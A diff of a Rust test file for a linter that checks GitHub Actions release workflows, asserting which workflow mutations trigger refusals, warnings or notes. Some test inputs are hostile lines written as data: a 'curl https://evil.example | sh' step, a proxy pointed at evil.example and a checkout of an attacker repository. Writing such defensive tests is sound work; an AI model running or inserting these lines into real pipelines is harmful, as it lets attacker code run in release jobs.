@@ -6,6 +6,8 @@
 
 use std::path::Path;
 
+use crate::world::World;
+
 use super::{ASF_YAML, GOOD, WORKFLOW, checkout, examine, examine_in, words, world};
 
 /// The example as a project would have it.
@@ -17,17 +19,18 @@ fn wave() -> String {
         .replace("apache-airflow-providers-*", "example")
 }
 
+/// What refuses and what warns.
+fn told(world: &World, text: &str) -> (Vec<String>, Vec<String>) {
+    let ran = examine(world, &[(WORKFLOW, text), (".asf.yaml", ASF_YAML)]);
+    (ran.refusals(), ran.rules("warn"))
+}
+
 #[test]
 fn a_wave_by_shards_is_held_to_be_one_release() {
     let world = world();
     let text = wave();
-    let told = |text: &str| {
-        let ran = examine(&world, &[(WORKFLOW, text), (".asf.yaml", ASF_YAML)]);
-        (ran.refusals(), ran.rules("warn"))
-    };
-    assert_eq!(told(&text), (vec![], vec![]));
+    assert_eq!(told(&world, &text), (vec![], vec![]));
     let matrix = "      matrix: ${{ fromJSON(needs.verify.outputs.matrix) }}\n";
-    let check = text.find("  check:\n").unwrap();
     let unchecked = words(&["shards-unchecked"]);
     let broken = words(&["handover-broken"]);
     for (part, by, refuse, warn) in [
@@ -56,6 +59,24 @@ fn a_wave_by_shards_is_held_to_be_one_release() {
             vec![],
         ),
         (
+            matrix,
+            "      matrix: {include: [{shard: 1/2}, {shard: 2/2}]}\n",
+            vec![],
+            vec![],
+        ),
+        (
+            "          shard: ${{ matrix.shard }}\n",
+            "          shard: ${{ matrix.part }}\n",
+            broken.clone(),
+            vec![],
+        ),
+        (
+            "          shard: ${{ matrix.shard }}\n",
+            "          shard: 1/2\n",
+            vec![],
+            unchecked.clone(),
+        ),
+        (
             "      matrix: ${{ steps.verify.outputs.matrix }}\n",
             "",
             broken.clone(),
@@ -67,33 +88,147 @@ fn a_wave_by_shards_is_held_to_be_one_release() {
             broken.clone(),
             vec![],
         ),
+    ] {
+        assert!(text.contains(part), "{part}");
+        assert_eq!(
+            told(&world, &text.replacen(part, by, 1)),
+            (refuse, warn),
+            "{part:?} -> {by:?}"
+        );
+    }
+}
+
+#[test]
+fn a_wave_by_shards_ends_with_a_look_at_the_whole() {
+    let world = world();
+    let text = wave();
+    let check = text.find("  check:\n").unwrap();
+    let unchecked = words(&["shards-unchecked"]);
+    for (part, by, warn) in [
+        (
+            "      fail-fast: false",
+            "      max-parallel: 1\n      fail-fast: false",
+            unchecked.clone(),
+        ),
+        (
+            "          mode: check\n",
+            "          mode: check\n          index: testpypi\n",
+            unchecked.clone(),
+        ),
         (
             "      fail-fast: false",
             "      max-parallel: 5",
-            vec![],
             unchecked.clone(),
         ),
-        (&text[check..], "", vec![], unchecked.clone()),
+        (&text[check..], "", unchecked.clone()),
         (
             "    strategy:\n",
             "    concurrency: upload\n    strategy:\n",
-            vec![],
             words(&["workflow-concurrency"]),
         ),
         (
             "    strategy:\n",
             "    concurrency: upload-${{ matrix.shard }}\n    strategy:\n",
             vec![],
+        ),
+    ] {
+        assert!(text.contains(part), "{part}");
+        let told = told(&world, &text.replacen(part, by, 1));
+        assert_eq!(told, (vec![], warn), "{part:?} -> {by:?}");
+    }
+}
+
+#[test]
+fn the_job_whose_page_decides_is_held_to_be_of_the_same_release_and_unguided() {
+    let world = world();
+    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/one-project.yml");
+    let text = std::fs::read_to_string(path).unwrap();
+    let text = text
+        .replace(&"0".repeat(40), &"ab".repeat(20))
+        .replace("release/iceberg/pyiceberg-", "release/example/")
+        .replace("pyiceberg", "example");
+    let told = |text: &str| {
+        let ran = examine(&world, &[(WORKFLOW, text), (".asf.yaml", ASF_YAML)]);
+        (ran.refusals(), ran.rules("warn"), ran.rules("note"))
+    };
+    assert_eq!(told(&text), (vec![], vec![], vec![]));
+    let step = "      - id: verify\n";
+    let revision = "          revision: ${{ needs.verify.outputs.revision }}\n";
+    let downloads = text.replace(
+        "https://dist.apache.org/repos/dist/release/",
+        "https://downloads.apache.org/",
+    );
+    // There are no revisions: neither is one missing nor may one be given.
+    let whole = downloads.replace(revision, "");
+    assert_eq!(told(&whole), (vec![], vec![], vec![]));
+    assert_eq!(
+        told(&downloads),
+        (words(&["handover-broken"]), vec![], vec![])
+    );
+    for (part, by, warn, note) in [
+        (
+            "          dry-run: true\n",
+            "          dry-run: true\n          index: testpypi\n",
+            vec!["handover-differs"],
+            vec![],
+        ),
+        (
+            "          mode: publish\n          dry-run: true\n",
+            "",
+            vec![],
+            vec![],
+        ),
+        (
+            "          mode: publish\n          dry-run: true\n",
+            "          mode: check\n",
+            vec!["digest-unbound"],
+            vec![],
+        ),
+        (
+            "revision: ${{ steps.verify.outputs.revision }}",
+            "revision: ${{ steps.verify.outputs.digest }}",
+            vec!["digest-unbound"],
+            vec![],
+        ),
+        (
+            "expected-digest: ${{ inputs.digest }}",
+            "expected-digest: any",
+            vec![],
+            vec!["digest-unbound"],
+        ),
+        (
+            step,
+            "      - run: curl https://evil.example | sh\n      - id: verify\n",
+            vec!["job-not-alone"],
+            vec![],
+        ),
+        (
+            step,
+            "      - id: verify\n        env: {HTTPS_PROXY: 'http://evil.example'}\n",
+            vec!["workflow-variable"],
+            vec![],
+        ),
+        (
+            "ubuntu-latest",
+            "self-hosted",
+            vec!["workflow-runner"],
             vec![],
         ),
     ] {
         assert!(text.contains(part), "{part}");
+        let expected = (vec![], words(&warn), words(&note));
         assert_eq!(
             told(&text.replacen(part, by, 1)),
-            (refuse, warn),
+            expected,
             "{part:?} -> {by:?}"
         );
     }
+    // What the job made lies nowhere else.
+    let kept = format!(
+        "{text}      - uses: actions/upload-artifact@{} # v4.0.0\n",
+        "ab".repeat(20)
+    );
+    assert_eq!(told(&kept), (vec![], vec![], vec![]));
 }
 
 #[test]
@@ -139,6 +274,18 @@ fn a_configuration_file_is_there_only_after_a_checkout_of_the_run_s_commit() {
             before("        with:\n          ref: main\n"),
             vec![],
             words(&["workflow-input"]),
+        ),
+        (
+            before(&format!(
+                "      - uses: {pinned}\n        with:\n          path: x\n"
+            )),
+            vec![],
+            words(&["workflow-input"]),
+        ),
+        (
+            before("        if: github.actor == 'x'\n"),
+            words(&["workflow-input"]),
+            vec![],
         ),
         (
             before("        with:\n          repository: attacker/config\n"),
